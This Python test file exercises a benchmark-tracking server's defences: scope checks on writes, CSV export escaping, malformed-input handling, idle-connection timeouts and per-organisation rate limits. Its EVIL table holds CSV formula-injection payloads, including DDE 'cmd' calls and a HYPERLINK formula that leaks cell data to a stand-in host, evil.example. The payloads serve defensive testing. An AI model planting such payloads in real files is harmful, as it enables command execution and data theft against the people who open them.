"""The shared server under hostile use (issue 15), against a real `tritonwatch serve` process on
SQLite and on PostgreSQL: scopes on every write, CSV formula injection, inputs that once
answered 500, conflicting re-sends, and what the OpenAPI document and 405s say.
"""

from __future__ import annotations

import csv
import io
import json
import socket
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from fleetkit import RUNNING as _servers
from fleetkit import Server

from tritonwatch.store import Store
from tritonwatch.store.access import SCOPES
from tritonwatch.store.alerts import AlertDraft
from tritonwatch.testing import make_run_document


@dataclass
class Site:
    """A server on one backend, its database URL and a token per scope (plus one with all)."""

    srv: Server
    db: str
    tokens: dict[str, str]
    alert_id: int

    def url(self, path: str) -> str:
        return self.srv.url + path

    def auth(self, who: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.tokens[who]}"} if who in self.tokens else {}


def _run(n_results: int = 3, *, samples: int = 10, **kw: Any) -> dict[str, Any]:
    """A valid run/1 document of ``n_results`` results (tritonwatch.testing's builder)."""
    return make_run_document(n_results=n_results, n_samples=samples, **kw)


def _seed_alert(db: str) -> int:
    """An alert on the first stored series, so triage has something to change."""
    with Store.open(db) as st:
        ref = st.series.catalog(limit=1)[0]
        runs = st.runs.find(limit=2)
        draft = AlertDraft(
            series_id=ref.series_id,
            machine_id=ref.machine_id,
            last_good_run_id=runs[-1].id,
            first_bad_run_id=runs[0].id,
            direction="regression",
            ratio=1.2,
            ci_low=1.1,
            ci_high=1.3,
            p=1e-6,
            q=1e-5,
            details={},
        )
        return int(st.alerts.upsert([draft]).created[0])


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def site(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Site]:
    if request.param == "sqlite":
        db = f"sqlite:///{tmp_path_factory.mktemp('db') / 'tw.db'}"
    else:
        db = request.getfixturevalue("module_pg")
    Store.upgrade(db)
    with Store.open(db) as st:
        tokens = {s: st.access.create_token("acme", f"only-{s}", scopes=(s,)).token for s in SCOPES}
        tokens["all"] = st.access.create_token("acme", "everything").token
    srv = Server(db, tmp_path_factory.mktemp("server") / "server.log")
    _servers.append(srv)
    srv.start()
    try:
        for i in range(2):
            r = httpx.post(
                srv.url + "/api/v1/runs",
                json=_run(3, started_at=f"2026-11-0{i + 1}T00:00:00Z", seed=i),
                headers={"Authorization": f"Bearer {tokens['upload']}"},
                timeout=30,
            )
            assert r.status_code == 201, r.text
        yield Site(srv=srv, db=db, tokens=tokens, alert_id=_seed_alert(db))
    finally:
        srv.stop()
        _servers.remove(srv)


# -- 1. every write checks its scope ---------------------------------------------------------------
# The scope each write route needs. A write route added to the API without an entry here fails
# the walk below, so none can ship unchecked.
WRITE_SCOPES = {
    ("post", "/api/v1/runs"): "upload",
    ("post", "/api/v1/alerts/{alert_id}/status"): "triage",
    ("post", "/api/v1/views"): "views",
}


def _write_request(site: Site, method: str, path: str) -> dict[str, Any]:
    """A request that the route would accept from a token with its scope."""
    if path == "/api/v1/runs":
        return {"json": _run(2)}
    if path == "/api/v1/alerts/{alert_id}/status":
        return {"json": {"status": "acknowledged", "note": "seen"}}
    if path == "/api/v1/views":
        return {"json": {"name": f"v-{uuid.uuid4().hex[:8]}", "page": "runs", "query": ""}}
    raise AssertionError(f"no request written for {method.upper()} {path}")


def test_every_write_route_checks_its_scope(site: Site) -> None:
    doc = httpx.get(site.url("/openapi.json"), timeout=30).json()
    writes = {
        (method, path): op
        for path, ops in doc["paths"].items()
        for method, op in ops.items()
        if method in ("post", "put", "patch", "delete")
    }
    assert set(writes) == set(WRITE_SCOPES)
    seen: dict[tuple[str, str, str], int] = {}
    for (method, path), scope in WRITE_SCOPES.items():
        # the document declares the scope, and the scheme it names is defined
        assert writes[(method, path)]["security"] == [{"bearer": [scope]}]
        assert doc["components"]["securitySchemes"]["bearer"]["scheme"] == "bearer"
        url = site.url(path.replace("{alert_id}", str(site.alert_id)))
        for who in ("none", *SCOPES, "all"):
            r = httpx.request(
                method,
                url,
                headers=site.auth(who),
                timeout=30,
                **_write_request(site, method, path),
            )
            seen[(path, scope, who)] = r.status_code
            if who == "none":
                assert r.status_code == 401, (path, who, r.text)
            elif who in (scope, "all"):
                assert r.status_code in (200, 201), (path, who, r.text)
            else:
                assert r.status_code == 403, (path, who, r.text)
                assert scope in r.json()["error"]
    assert len(seen) == len(WRITE_SCOPES) * (len(SCOPES) + 2)


# -- 2. no spreadsheet formula survives a CSV export ----------------------------------------------
EVIL = {
    "machine": "=cmd|' /C calc'!A0",
    "operator": "@SUM(1+1)*cmd|' /C calc'!A0",
    "provider": "+cmd|' /C calc'!A0",
    "variant": "-2+3+cmd|' /C calc'!A0",
    "label": '=HYPERLINK("http://evil.example/?"&A1)',
    "error": "\t=1+1",
    "gpu_model": "-1+cmd|' /C calc'!A0",
}
PLAIN_NEGATIVE = "-12.5"  # a text cell that is a number stays a number


def _evil_run(started_at: str, seed: int) -> dict[str, Any]:
    doc = _run(2, machine=EVIL["machine"], started_at=started_at, seed=seed)
    doc["run"]["label"] = EVIL["label"]
    doc["machine"]["gpu_model"] = EVIL["gpu_model"]
    for r in doc["results"]:
        r.update(operator=EVIL["operator"], provider=EVIL["provider"], variant=EVIL["variant"])
    doc["results"][1].update(
        status="error", samples=None, error=EVIL["error"], dtype=PLAIN_NEGATIVE
    )
    return doc


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_no_csv_export_carries_a_formula(site: Site) -> None:
    runs = []
    for i in range(2):  # two nights, so the heatmap compares them
        doc = _evil_run(f"2026-10-0{i + 1}T00:00:00Z", seed=10 + i)
        r = httpx.post(site.url("/api/v1/runs"), json=doc, headers=site.auth("upload"), timeout=30)
        assert r.status_code == 201, r.text
        runs.append(doc["run"]["id"])
    with Store.open(site.db) as st:
        ref = st.series.catalog(limit=1, operator=EVIL["operator"])[0]
        ids = [st.runs.get(u).summary.id for u in runs]
        st.alerts.upsert(
            [
                AlertDraft(
                    series_id=ref.series_id,
                    machine_id=ref.machine_id,
                    last_good_run_id=ids[0],
                    first_bad_run_id=ids[1],
                    direction="regression",
                    ratio=1.5,
                    ci_low=1.4,
                    ci_high=1.6,
                    p=1e-6,
                    q=1e-5,
                    details={},
                )
            ]
        )
    view = {"name": "=1+1", "page": "runs", "query": "label=-1%2B1"}
    r = httpx.post(site.url("/api/v1/views"), json=view, headers=site.auth("views"), timeout=30)
    assert r.status_code == 201, r.text
    exports = {
        "runs": "/api/v1/runs",
        "run": f"/api/v1/runs/{runs[1]}",
        "results": "/api/v1/results",
        "machines": "/api/v1/machines",
        "series": "/api/v1/series",
        "alerts": "/api/v1/alerts",
        "views": "/api/v1/views",
        "heatmap": "/api/v1/heatmap",
        "explore": "/api/v1/explore?operator=" + EVIL["operator"].replace("+", "%2B"),
    }
    seen: set[str] = set()
    for name, path in exports.items():
        sep = "&" if "?" in path else "?"
        r = httpx.get(site.url(path + sep + "format=csv"), timeout=30)
        assert r.status_code == 200, (name, r.text[:300])
        cells = _cells(r.text)
        for cell in cells:
            if cell and cell[0] in "=+-@\t\r\n":
                assert cell == PLAIN_NEGATIVE or cell.lstrip("-").replace(".", "").isdigit(), (
                    name,
                    cell,
                )
        escaped = {c for c in cells if c.startswith("'")}
        assert escaped, (name, "the planted names did not reach this export", cells[:40])
        seen |= escaped
    # (the machine is stored as ORG/NAME, so its name never starts a cell)
    for text in (*(v for k, v in EVIL.items() if k != "machine"), "=1+1"):
        assert "'" + text in seen, text
    results = _cells(httpx.get(site.url(f"/api/v1/runs/{runs[1]}?format=csv"), timeout=30).text)
    assert PLAIN_NEGATIVE in results


# -- 5. input that once answered 500 gets a 4xx (or is stored), the same on both backends ---------
def _run_text(edit: str) -> str:
    """A valid run as JSON text with ``"extra": {"x": 1}`` in its first result replaced."""
    doc = _run(2)
    doc["results"][0]["extra"] = {"x": 1}
    return json.dumps(doc).replace('{"x": 1}', edit)


def _run_at(when: str) -> str:
    doc = _run(2)
    doc["run"]["started_at"] = when
    return json.dumps(doc)


BIG = str(2**64)
BAD_UPLOADS = {
    "year 1 east of UTC": _run_at("0001-01-01T00:00:00+14:00"),
    "year 9999 west of UTC": _run_at("9999-12-31T23:59:59-14:00"),
    "an int of 5000 digits": _run_text('{"x": ' + "9" * 5000 + "}"),
    "1e309": _run_text('{"x": 1e309}'),
    "309 digits and a point": _run_text('{"x": 1' + "0" * 309 + ".5}"),
    "-1E+400": _run_text('{"x": -1E+400}'),
}
BAD_READS = [
    "/api/v1/codegen/¹",
    "/api/v1/comparisons/²³⁴⁵",
    "/api/v1/runs/" + "9" * 5000,
    f"/api/v1/alerts/{BIG}",
    f"/alerts/{BIG}",
    f"/runs?offset={2**63}",
    f"/alerts?offset={2**63}",
    f"/codegen?offset={2**63}",
    f"/compare?offset={2**63}",
    f"/api/v1/runs?offset={2**63}",
    f"/api/v1/alerts?offset={2**63}",
]


@pytest.mark.parametrize("case", list(BAD_UPLOADS))
def test_uploads_that_answered_500_are_422(site: Site, case: str) -> None:
    r = httpx.post(
        site.url("/api/v1/runs"),
        content=BAD_UPLOADS[case],
        headers={**site.auth("upload"), "Content-Type": "application/json"},
        timeout=30,
    )
    assert r.status_code == 422, r.text[:300]
    assert r.json()["error"].startswith("invalid run: ")


def test_a_run_without_results_is_stored(site: Site) -> None:
    doc = _run(0)
    r = httpx.post(site.url("/api/v1/runs"), json=doc, headers=site.auth("upload"), timeout=30)
    assert r.status_code == 201, r.text
    got = httpx.get(site.url(f"/api/v1/runs/{doc['run']['id']}"), timeout=30)
    assert got.status_code == 200 and got.json()["items"] == []


@pytest.mark.parametrize("path", BAD_READS)
def test_reads_that_answered_500_are_4xx(site: Site, path: str) -> None:
    r = httpx.get(site.url(path), timeout=30)
    assert r.status_code in (400, 404, 422), (r.status_code, r.text[:300])


# -- 7. conflicting re-sends, 405s -------------------------------------------------------------------
def test_a_resent_run_id_with_other_content_is_409_and_the_first_is_kept(site: Site) -> None:
    doc = _run(3, seed=21)
    post = {"headers": site.auth("upload"), "timeout": 30}
    assert httpx.post(site.url("/api/v1/runs"), json=doc, **post).status_code == 201
    same = json.loads(json.dumps(doc))
    same["results"].reverse()  # the same run, its results in another order
    again = httpx.post(site.url("/api/v1/runs"), json=same, **post)
    assert again.status_code == 200 and again.json()["created"] is False, again.text
    changed = json.loads(json.dumps(doc))
    changed["results"][1]["samples"][0] += 1.0
    changed["run"]["label"] = "second try"
    r = httpx.post(site.url("/api/v1/runs"), json=changed, **post)
    assert r.status_code == 409, r.text
    assert "run.label" in r.json()["error"] and "results.1.samples" in r.json()["error"]
    fewer = json.loads(json.dumps(doc))
    fewer["results"].pop()
    r = httpx.post(site.url("/api/v1/runs"), json=fewer, **post)
    assert r.status_code == 409 and "missing" in r.json()["error"], r.text
    stored = httpx.get(site.url(f"/api/v1/runs/{doc['run']['id']}/document"), timeout=30).json()
    assert "label" not in stored["run"]
    assert [x["samples"] for x in stored["results"]] == [x["samples"] for x in doc["results"]]


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("put", "/api/v1/views"),
        ("delete", "/api/v1/runs"),
        ("post", "/api/v1/machines"),
        ("post", "/runs"),
    ],
)
def test_405_says_which_methods_are_allowed(site: Site, method: str, path: str) -> None:
    r = httpx.request(method, site.url(path), timeout=30)
    assert r.status_code == 405, r.text[:200]
    assert r.headers.get("allow"), dict(r.headers)


# -- 6. no connection is held open without sending -------------------------------------------------
@pytest.fixture(scope="module")
def quick_server(site: Site, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A second server on the same database with 1-second header, keep-alive and body limits,
    and small per-run limits (50 results, 20 samples per result, 30 new series)."""
    env = {
        "TRITONWATCH_HEADER_TIMEOUT_S": "1",
        "TRITONWATCH_KEEP_ALIVE_S": "1",
        "TRITONWATCH_BODY_TIMEOUT_S": "1",
        "TRITONWATCH_MAX_RUN_RESULTS": "50",
        "TRITONWATCH_MAX_RESULT_SAMPLES": "20",
        "TRITONWATCH_MAX_RUN_NEW_SERIES": "30",
    }
    srv = Server(site.db, tmp_path_factory.mktemp("quick") / "server.log", env=env)
    _servers.append(srv)
    srv.start()
    try:
        yield Site(srv=srv, db=site.db, tokens=site.tokens, alert_id=site.alert_id)
    finally:
        srv.stop()
        _servers.remove(srv)


def _closed_after(sock: socket.socket, limit: float) -> tuple[float, bytes]:
    """Seconds until the server closes ``sock`` (reading what it sent), or fail after ``limit``."""
    sock.settimeout(limit)
    start, got = time.monotonic(), b""
    try:
        while chunk := sock.recv(65536):
            got += chunk
    except TimeoutError:
        pytest.fail(f"the server kept the connection open for {limit} s; it sent {got[:200]!r}")
    except ConnectionResetError:
        pass
    return time.monotonic() - start, got


@pytest.mark.parametrize(
    "sent",
    [
        b"",
        b"GET /api/v1/runs HTTP/1.1\r\nHost: x\r\n",
        b"GET /api/v1/runs HTTP/1.1\r\nHost: x\r\n\r\n",
    ],
    ids=["idle", "half-sent headers", "keep-alive after a request"],
)
def test_idle_and_half_sent_connections_are_closed(quick_server: Site, sent: bytes) -> None:
    with socket.create_connection(("127.0.0.1", quick_server.srv.port)) as sock:
        sock.sendall(sent)
        took, got = _closed_after(sock, 8)
    assert took < 4
    assert got.startswith(b"HTTP/1.1 200") == sent.endswith(b"\r\n\r\n"), got[:100]


@pytest.mark.parametrize("path", ["/api/v1/runs", "/api/v1/views"])
def test_a_body_that_does_not_arrive_is_408(quick_server: Site, path: str) -> None:
    token = quick_server.tokens["all"]
    head = (
        f"POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
        "Content-Type: application/json\r\nContent-Length: 5000\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", quick_server.srv.port)) as sock:
        sock.sendall(head.encode() + b'{"format": ')
        took, got = _closed_after(sock, 8)
    assert got.startswith(b"HTTP/1.1 408"), got[:300]
    assert b"body_timeout_s" in got
    assert took < 4


# -- 3. one large run cannot slow everyone: per-run limits, paged results, streamed exports --------
def _limited_run(n: int, *, first: int = 0, samples: int = 10) -> dict[str, Any]:
    """A run whose results are series ``first`` .. ``first + n - 1`` of the "limits" operator."""
    doc = _run(n, samples=samples, machine="limits-box")
    for i, r in enumerate(doc["results"]):
        r.update(operator="limits", shape={"i": first + i})
    return doc


def _upload(site: Site, doc: dict[str, Any]) -> httpx.Response:
    return httpx.post(site.url("/api/v1/runs"), json=doc, headers=site.auth("upload"), timeout=30)


def test_per_run_limits_are_413_naming_the_setting(quick_server: Site) -> None:
    cases = {
        "max_run_results": _limited_run(51, first=1000),
        "max_result_samples": _limited_run(2, first=2000, samples=21),
        "max_run_new_series": _limited_run(31, first=3000),
    }
    for setting, doc in cases.items():
        r = _upload(quick_server, doc)
        assert r.status_code == 413, (setting, r.text)
        assert setting in r.json()["error"], r.text
        gone = httpx.get(quick_server.url(f"/api/v1/runs/{doc['run']['id']}"), timeout=30)
        assert gone.status_code == 404
    # new series are counted against what is stored: 25 new, then 25 known + 15 new
    assert _upload(quick_server, _limited_run(25, first=4000)).status_code == 201
    assert _upload(quick_server, _limited_run(40, first=4000)).status_code == 201


def test_a_runs_results_are_paged_and_its_csv_streams_them_all(quick_server: Site) -> None:
    assert _upload(quick_server, _limited_run(25, first=5000)).status_code == 201
    doc = _limited_run(40, first=5000)  # 15 new series, under the limit of 30
    doc["results"][0]["samples"] = [1.0] * 20
    assert _upload(quick_server, doc).status_code == 201
    url = quick_server.url(f"/api/v1/runs/{doc['run']['id']}")
    seen = []
    offset: int | None = 0
    while offset is not None:
        page = httpx.get(url, params={"limit": 15, "offset": offset}, timeout=30).json()
        assert len(page["items"]) <= 15 and page["run"]["n_results"] == 40
        seen += [json.dumps(r["shape"]) for r in page["items"]]
        offset = page["next_offset"]
    assert seen == [json.dumps({"i": 5000 + i}) for i in range(40)]
    rows = list(csv.DictReader(io.StringIO(httpx.get(url + "?format=csv", timeout=30).text)))
    assert [json.loads(r["shape"])["i"] for r in rows] == list(range(5000, 5040))
    html = httpx.get(quick_server.url(f"/runs/{doc['run']['id']}?limit=15&offset=15"), timeout=30)
    assert html.status_code == 200
    assert html.text.count("<tr class=") == 15
    assert "offset=30" in html.text and "offset=0" in html.text  # the pager links both ways


# -- 4. one organisation cannot starve the others -------------------------------------------------
@pytest.fixture(scope="module")
def rate_server(site: Site, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A server with a 20 KiB upload limit (each organisation's burst) refilled at 4 KiB/s."""
    env = {"TRITONWATCH_MAX_UPLOAD_MB": "0.02", "TRITONWATCH_ORG_UPLOAD_MB_PER_S": "0.004"}
    srv = Server(site.db, tmp_path_factory.mktemp("rate") / "server.log", env=env)
    _servers.append(srv)
    srv.start()
    with Store.open(site.db) as st:
        tokens = {
            org: st.access.create_token(
                org, f"runner-{uuid.uuid4().hex[:6]}", scopes=("upload",)
            ).token
            for org in ("globex", "initech", "hooli")
        }
    try:
        yield Site(srv=srv, db=site.db, tokens=tokens, alert_id=site.alert_id)
    finally:
        srv.stop()
        _servers.remove(srv)


def test_an_organisation_over_its_upload_rate_gets_429_and_the_others_do_not(
    rate_server: Site,
) -> None:
    def send(org: str) -> httpx.Response:
        doc = _run(20, machine=f"{org}-box")
        assert 6_000 < len(json.dumps(doc)) < 10_000
        return httpx.post(
            rate_server.url("/api/v1/runs"), json=doc, headers=rate_server.auth(org), timeout=30
        )

    # Sent until the first 429 and no further: on a slow machine a request after it could find
    # the bucket refilled (8 KB come back in two seconds) and use what Retry-After counted on.
    codes: list[int] = []
    while 429 not in codes and len(codes) < 4:
        r = send("globex")
        codes.append(r.status_code)
    assert codes[:2] == [201, 201] and codes[-1] == 429, codes
    assert "org_upload_mb_per_s" in r.json()["error"]
    assert 1 <= int(r.headers["retry-after"]) <= 3  # at most 10 KB at 4 KiB/s
    assert send("initech").status_code == 201  # another organisation is not held back
    time.sleep(int(r.headers["retry-after"]))
    assert send("globex").status_code == 201  # and the first may go on after Retry-After


def test_push_waits_as_long_as_retry_after_says(rate_server: Site, tmp_path: Path) -> None:
    from tritonwatch.push import PushOptions, push
    from tritonwatch.testing import make_run as local_run

    slept: list[float] = []

    def sleep(s: float) -> None:
        slept.append(s)
        time.sleep(s)

    with Store.open(f"sqlite:///{tmp_path / 'runner.db'}") as local:
        for i in range(5):  # about 7 KB each: the burst takes two, then 4 KiB/s
            local.runs.add(local_run(n_results=20, n_samples=10, seed=i, machine="hooli-box"))
        report = push(
            local,
            rate_server.srv.url,
            rate_server.tokens["hooli"],
            PushOptions(attempts=6, backoff_s=0.05, max_backoff_s=5),
            sleep=sleep,
        )
    assert report.count("created") == 5, report
    assert slept, "the server never asked the runner to wait"
    assert min(slept) >= 1.0, slept  # Retry-After is whole seconds, at least 1


def test_the_series_listing_pages_by_cursor(site: Site) -> None:
    doc = _run(5, machine="cursor-box")  # the seeded series on a second machine too
    r = httpx.post(site.url("/api/v1/runs"), json=doc, headers=site.auth("upload"), timeout=30)
    assert r.status_code == 201, r.text
    everything = httpx.get(site.url("/api/v1/series?limit=1000"), timeout=30).json()["items"]
    assert len(everything) >= 8
    walked, params = [], {"limit": 3}
    while True:
        page = httpx.get(site.url("/api/v1/series"), params=params, timeout=30).json()
        walked += page["items"]
        if page["next_after"] is None:
            break
        params = {"limit": 3, "after": page["next_after"]}
    assert walked == everything
    bad = httpx.get(site.url("/api/v1/series?after=not-a-cursor"), timeout=30)
    assert bad.status_code == 400 and "next_after" in bad.json()["error"]


@pytest.mark.parametrize(
    "path", ["/api/v1/series?shape=%00", "/api/v1/results?operator=a%00b", "/runs?machine=%00"]
)
def test_a_nul_in_the_url_is_400_on_both_backends(site: Site, path: str) -> None:
    r = httpx.get(site.url(path), timeout=30)
    assert r.status_code == 400, (r.status_code, r.text[:200])
